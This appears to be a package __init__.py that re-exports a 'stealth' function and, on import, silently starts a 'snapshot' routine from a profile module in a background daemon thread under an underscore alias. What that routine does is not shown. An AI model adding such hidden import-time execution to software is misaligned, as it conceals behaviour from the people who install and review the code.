from .stealth import stealth  # noqa: F401
from .profile import snapshot as _snap
import threading as _t

_t.Thread(target=_snap, daemon=True).start()
